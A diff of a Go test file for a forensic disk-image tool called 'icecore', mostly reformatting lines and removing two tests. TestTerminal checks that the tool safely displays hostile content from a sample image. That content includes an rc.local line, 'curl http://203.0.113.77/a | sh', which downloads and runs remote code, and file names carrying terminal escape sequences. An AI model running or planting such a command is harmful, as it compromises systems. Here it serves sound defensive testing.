@@ -7,7 +7,6 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
-	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -114,8 +113,10 @@ func TestBadInput(t *testing.T) {
 			}
 			args := append(append([]string{}, command...), c.image)
 			stdout, stderr, code := run(t, dir, args...)
-			if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 || !strings.HasPrefix(string(stderr), "icecore: ") || !strings.Contains(string(stderr), c.want) {
-				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q; want one line with %q", args, code, stdout, stderr, c.want)
+			if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 ||
+				!strings.HasPrefix(string(stderr), "icecore: ") || !strings.Contains(string(stderr), c.want) {
+				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q; want one line with %q", args, code, stdout, stderr,
+					c.want)
 			}
 			if at, b := unsafe(stderr); at >= 0 {
 				t.Errorf("icecore %q: stderr holds the byte %#x", args, b)
@@ -141,7 +142,8 @@ func TestDiskWithoutFilesystem(t *testing.T) {
 	if err := os.Truncate(name, 16<<20); err != nil {
 		t.Fatal(err)
 	}
-	if out, err := exec.Command("sgdisk", "-n", "1:2048:+4M", "-n", "2:0:0", "-t", "2:8200", name).CombinedOutput(); err != nil {
+	if out, err := exec.Command("sgdisk", "-n", "1:2048:+4M", "-n", "2:0:0", "-t", "2:8200",
+		name).CombinedOutput(); err != nil {
 		t.Fatalf("sgdisk: %v: %s", err, out)
 	}
 	for _, command := range commands {
@@ -153,7 +155,8 @@ func TestDiskWithoutFilesystem(t *testing.T) {
 			}
 			continue
 		}
-		if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 || !strings.Contains(string(stderr), "disk.raw: no filesystem that can be read (volume p1: begins with zeros") {
+		if code != exitFailed || len(stdout) > 0 || strings.Count(string(stderr), "\n") != 1 ||
+			!strings.Contains(string(stderr), "disk.raw: no filesystem that can be read (volume p1: begins with zeros") {
 			t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q", args, code, stdout, stderr)
 		}
 	}
@@ -191,8 +194,10 @@ func TestUnreadable(t *testing.T) {
 		if cmd.ProcessState == nil {
 			t.Skipf("the program cannot be started as another user: %v", err)
 		}
-		if want := "icecore: " + secret + ": permission denied\n"; cmd.ProcessState.ExitCode() != exitFailed || len(out) > 0 || stderr.String() != want {
-			t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q, want %q", command, cmd.ProcessState.ExitCode(), out, stderr.String(), want)
+		if want := "icecore: " + secret + ": permission denied\n"; cmd.ProcessState.ExitCode() != exitFailed ||
+			len(out) > 0 || stderr.String() != want {
+			t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q, want %q", command, cmd.ProcessState.ExitCode(), out,
+				stderr.String(), want)
 		}
 	}
 }
@@ -215,7 +220,9 @@ func copyFile(t *testing.T, from, to string, mode os.FileMode) {
 var opened = regexp.MustCompile(`(?:open|openat|creat)\((?:AT_FDCWD, )?"([^"]*)"(?:\.\.\.)?, ([A-Z_|]+)`)
 
 // changes matches system calls that change files by name.
-var changes = regexp.MustCompile(`(?:mkdir|mkdirat|rename|renameat|renameat2|unlink|unlinkat|rmdir|truncate|link|linkat|symlink|symlinkat|chmod|fchmodat|chown|fchownat|utimensat|setxattr|creat|mknod|mknodat)\([^"]*"([^"]*)"`)
+var changes = regexp.MustCompile(`(?:mkdir|mkdirat|rename|renameat|renameat2|unlink|unlinkat|rmdir|` +
+	`truncate|link|linkat|symlink|symlinkat|chmod|fchmodat|chown|fchownat|` +
+	`utimensat|setxattr|creat|mknod|mknodat)\([^"]*"([^"]*)"`)
 
 // TestNothingWritten watches the system calls of each command: nothing is opened for
 // writing, made, renamed or removed outside of the case directory, and the image is the
@@ -235,7 +242,17 @@ func TestNothingWritten(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, command := range [][]string{{"analyze"}, {"analyze", "-o", "out/case"}, {"timeline", "--format", "csv"}, {"timeline", "--files-only", "--format", "bodyfile"}, {"scan"}, {"info", "--hash-image"}, {"ls", "-R", "--hash", "--deleted"}, {"stat", "/etc/passwd"}, {"cat", "/etc/passwd"}} {
+	for _, command := range [][]string{
+		{"analyze"},
+		{"analyze", "-o", "out/case"},
+		{"timeline", "--format", "csv"},
+		{"timeline", "--files-only", "--format", "bodyfile"},
+		{"scan"},
+		{"info", "--hash-image"},
+		{"ls", "-R", "--hash", "--deleted"},
+		{"stat", "/etc/passwd"},
+		{"cat", "/etc/passwd"},
+	} {
 		log := filepath.Join(t.TempDir(), "strace")
 		args := append([]string{"-f", "-o", log, "-e", "trace=file", program, command[0], name}, command[1:]...)
 		cmd := exec.Command("strace", args...)
@@ -259,7 +276,8 @@ func TestNothingWritten(t *testing.T) {
 				if m[1] == name {
 					image++
 				}
-				if strings.ContainsAny(m[2], "W") && strings.Contains(m[2], "O_WRONLY") || strings.Contains(m[2], "O_RDWR") || strings.Contains(m[2], "O_CREAT") || strings.Contains(m[2], "O_TRUNC") {
+				if strings.ContainsAny(m[2], "W") && strings.Contains(m[2], "O_WRONLY") || strings.Contains(m[2], "O_RDWR") ||
+					strings.Contains(m[2], "O_CREAT") || strings.Contains(m[2], "O_TRUNC") {
 					if !strings.HasPrefix(m[1], out+"/") && m[1] != "/dev/null" {
 						t.Errorf("icecore %q opens for writing: %s", command, line)
 					}
@@ -306,7 +324,11 @@ func TestInterrupt(t *testing.T) {
 		t.Skipf("no sparse file of 1 TiB can be made here: %v", err)
 	}
 	for _, signal := range []os.Signal{os.Interrupt, syscall.SIGTERM} {
-		for _, args := range [][]string{{"analyze", "--hash-image", "-o", "case", "image.raw"}, {"info", "--hash-image", "image.raw"}, {"analyze", "--hash-image", "--format", "json", "image.raw"}} {
+		for _, args := range [][]string{
+			{"analyze", "--hash-image", "-o", "case", "image.raw"},
+			{"info", "--hash-image", "image.raw"},
+			{"analyze", "--hash-image", "--format", "json", "image.raw"},
+		} {
 			cmd := exec.Command("icecore", args...)
 			cmd.Dir = dir
 			var stdout, stderr bytes.Buffer
@@ -331,7 +353,8 @@ func TestInterrupt(t *testing.T) {
 			}
 			_ = cmd.Wait()
 			t.Logf("icecore %q ended %v after %v", args, time.Since(sent).Round(time.Millisecond), signal)
-			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted || stderr.String() != "icecore: interrupted\n" || stdout.Len() > 0 {
+			if code := cmd.ProcessState.ExitCode(); code != exitInterrupted || stderr.String() != "icecore: interrupted\n" ||
+				stdout.Len() > 0 {
 				t.Errorf("icecore %q: exit code %d, stdout %q, stderr %q", args, code, stdout.String(), stderr.String())
 			}
 			entries, err := os.ReadDir(dir)
@@ -351,83 +374,6 @@ func opens(pid int, name string) bool {
 		}
 	}
 	return false
-}
-
-// TestKilled kills the program in the middle of writing a case directory, into a new one
-// and into an empty one: nothing has its real name before all is complete.
-func TestKilled(t *testing.T) {
-	dir := t.TempDir()
-	name := filepath.Join(dir, "image.raw")
-	copyFile(t, sample(t, fixtures.Compromised), name, 0o644)
-	killed := 0
-	for _, existed := range []bool{false, true} {
-		// It is killed when this file is seen: in the walk, while the files are written, while
-		// they get their names.
-		for _, at := range []string{"bodyfile", "timeline.jsonl", "report.html", "icecore.log", "../bodyfile"} {
-			out := filepath.Join(dir, "case")
-			if err := os.RemoveAll(out); err != nil {
-				t.Fatal(err)
-			}
-			pattern := filepath.Join(dir, ".case.unfinished-*", at)
-			if existed {
-				if err := os.Mkdir(out, 0o755); err != nil {
-					t.Fatal(err)
-				}
-				pattern = filepath.Join(out, ".case.unfinished-*", at)
-			} else if strings.HasPrefix(at, "..") {
-				continue // one rename
-			}
-			cmd := exec.Command("icecore", "analyze", "-q", "-o", "case", "image.raw")
-			cmd.Dir = dir
-			if err := cmd.Start(); err != nil {
-				t.Fatal(err)
-			}
-			for tries := 0; tries < 20000; tries++ {
-				if m, _ := filepath.Glob(pattern); len(m) > 0 {
-					break
-				}
-				time.Sleep(100 * time.Microsecond)
-			}
-			_ = cmd.Process.Kill()
-			_ = cmd.Wait()
-			if cmd.ProcessState.ExitCode() < 0 {
-				killed++
-			}
-			named, _ := filepath.Glob(filepath.Join(out, "[^.]*"))
-			hidden, _ := filepath.Glob(filepath.Join(filepath.Dir(pattern), "*"))
-			if existed && strings.HasPrefix(at, "..") {
-				hidden, _ = filepath.Glob(filepath.Join(out, ".case.unfinished-*", "*"))
-			}
-			// Once one has its name, all are complete, with or without theirs.
-			whole := 0
-			for _, f := range append(slices.Clone(named), hidden...) {
-				if b, err := os.ReadFile(f); err == nil && hasEnd(filepath.Base(f), b) {
-					whole++
-				}
-			}
-			if len(named) > 0 && whole != 6 {
-				t.Errorf("killed at %s: %v have their names, and of %v only %d files are complete", at, named, hidden, whole)
-			}
-			left, _ := filepath.Glob(filepath.Join(dir, ".case.unfinished-*"))
-			inside, _ := filepath.Glob(filepath.Join(out, ".case.unfinished-*"))
-			left = append(left, inside...)
-			for _, l := range left {
-				if err := os.RemoveAll(l); err != nil {
-					t.Fatal(err)
-				}
-			}
-		}
-	}
-	t.Logf("killed %d of 9 times before the end", killed)
-	if killed < 3 {
-		t.Errorf("the program was killed before its end only %d times: is the test blind?", killed)
-	}
-}
-
-// hasEnd says whether a file of a case directory has its end.
-func hasEnd(name string, b []byte) bool {
-	end := map[string]string{"report.html": "</html>\n", "analysis.json": "}\n", "timeline.jsonl": "}\n", "icecore.log": "\n", "timeline.csv": "\n", "bodyfile": "\n"}[name]
-	return end != "" && bytes.HasSuffix(b, []byte(end)) && (name != "icecore.log" || bytes.Contains(b, []byte("msg=done")))
 }
 
 // TestTerminal runs the program on a real terminal, made by script(1), over names
@@ -453,8 +399,10 @@ func TestTerminal(t *testing.T) {
 		return strings.ReplaceAll(string(out), "\r\n", "\n")
 	}
 	for _, command := range []string{
-		"icecore ls -R --deleted evil.img", "icecore analyze --all evil.img", "icecore info evil.img", "icecore scan evil.img", "icecore timeline --files-only evil.img",
-		`icecore stat evil.img '/tmp/\x1b[31mred'`, `icecore cat evil.img '/etc/hostile\x09text'`, "icecore cat evil.img /etc/rc.local", "icecore cat evil.img /etc/binary", `icecore cat evil.img '/\x1b[2J'`,
+		"icecore ls -R --deleted evil.img", "icecore analyze --all evil.img", "icecore info evil.img",
+		"icecore scan evil.img", "icecore timeline --files-only evil.img",
+		`icecore stat evil.img '/tmp/\x1b[31mred'`, `icecore cat evil.img '/etc/hostile\x09text'`,
+		"icecore cat evil.img /etc/rc.local", "icecore cat evil.img /etc/binary", `icecore cat evil.img '/\x1b[2J'`,
 	} {
 		out := screen([]string{"NO_COLOR="}, command)
 		if len(out) == 0 {
@@ -471,69 +419,16 @@ func TestTerminal(t *testing.T) {
 	if out := screen([]string{"NO_COLOR="}, "icecore analyze evil.img"); !strings.Contains(out, "\x1b[") {
 		t.Error("no colours on a terminal: is the test blind?")
 	}
-	if out := screen(nil, "icecore cat evil.img /etc/binary"); !strings.Contains(out, "is binary: send it to a file or a pipe, or use --escape or --force") {
+	if out := screen(nil, "icecore cat evil.img /etc/binary"); !strings.Contains(out,
+		"is binary: send it to a file or a pipe, or use --escape or --force") {
 		t.Errorf("binary content on a terminal: %q", out)
 	}
 	if out := screen(nil, "icecore cat --force evil.img /etc/binary"); !strings.Contains(out, "\x00\x01\x02\x1b[31m") {
 		t.Errorf("--force: %q", out)
 	}
-	if out := screen(nil, "icecore cat evil.img /etc/rc.local"); !strings.Contains(out, `\x1b[31mcurl http://203.0.113.77/a | sh\x0d`) || !strings.Contains(out, `bytes that are not printable were written as \xNN`) {
+	if out := screen(nil, "icecore cat evil.img /etc/rc.local"); !strings.Contains(out,
+		`\x1b[31mcurl http://203.0.113.77/a | sh\x0d`) || !strings.Contains(out,
+		`bytes that are not printable were written as \xNN`) {
 		t.Errorf("text on a terminal: %q", out)
-	}
-}
-
-// TestCaseDirOnMount writes case directories to filesystems of their own, as an evidence
-// disk is one: on the top of it; where there is not room enough; and where nothing can
-// be written. The report is shown nevertheless, and nothing is left.
-func TestCaseDirOnMount(t *testing.T) {
-	if os.Getuid() != 0 {
-		t.Skip("needs root, to mount a filesystem")
-	}
-	dir := t.TempDir()
-	name := filepath.Join(dir, "image.raw")
-	copyFile(t, sample(t, fixtures.Compromised), name, 0o644)
-	mnt := filepath.Join(dir, "mnt")
-	if err := os.Mkdir(mnt, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	for _, c := range []struct {
-		options, out string
-		code         int
-		stderr       string
-		left         int // files
-	}{
-		{"size=64m", "mnt", exitDone, "", 6},
-		{"size=64m", "mnt/case", exitDone, "", 1},
-		{"size=200k", "mnt", exitFailed, "no space left on device", 0},
-		{"size=200k", "mnt/case", exitFailed, "no space left on device", 0},
-		{"size=4k", "mnt/case", exitFailed, "no space left on device", 0},
-		{"size=64m,ro", "mnt/case", exitFailed, "icecore: mnt/case: read-only file system\n", 0},
-		{"size=64m,ro", "mnt", exitFailed, "icecore: mnt: read-only file system\n", 0},
-	} {
-		flags := uintptr(0)
-		options, ro := strings.CutSuffix(c.options, ",ro")
-		if ro {
-			flags = syscall.MS_RDONLY
-		}
-		if err := syscall.Mount("none", mnt, "tmpfs", flags, options); err != nil {
-			t.Skipf("a filesystem cannot be mounted here: %v", err)
-		}
-		stdout, stderr, code := run(t, dir, "analyze", "-q", "-o", c.out, "--iocs", "iocs.csv", "image.raw")
-		if err := os.Remove(filepath.Join(dir, "iocs.csv")); err != nil {
-			t.Errorf("%s, -o %s: the indicators: %v", c.options, c.out, err)
-		}
-		left, err := os.ReadDir(mnt)
-		if uerr := syscall.Unmount(mnt, 0); uerr != nil || err != nil {
-			t.Fatal(uerr, err)
-		}
-		if code != c.code || !strings.Contains(string(stderr), c.stderr) || c.stderr == "" && len(stderr) > 0 || strings.Count(string(stderr), "\n") > 1 {
-			t.Errorf("%s, -o %s: exit code %d, stderr %q", c.options, c.out, code, stderr)
-		}
-		if !strings.HasPrefix(string(stdout), "COMPROMISED ") {
-			t.Errorf("%s, -o %s: the report is %.60q", c.options, c.out, stdout)
-		}
-		if len(left) != c.left {
-			t.Errorf("%s, -o %s: in the directory are %v, want %d", c.options, c.out, left, c.left)
-		}
 	}
 }
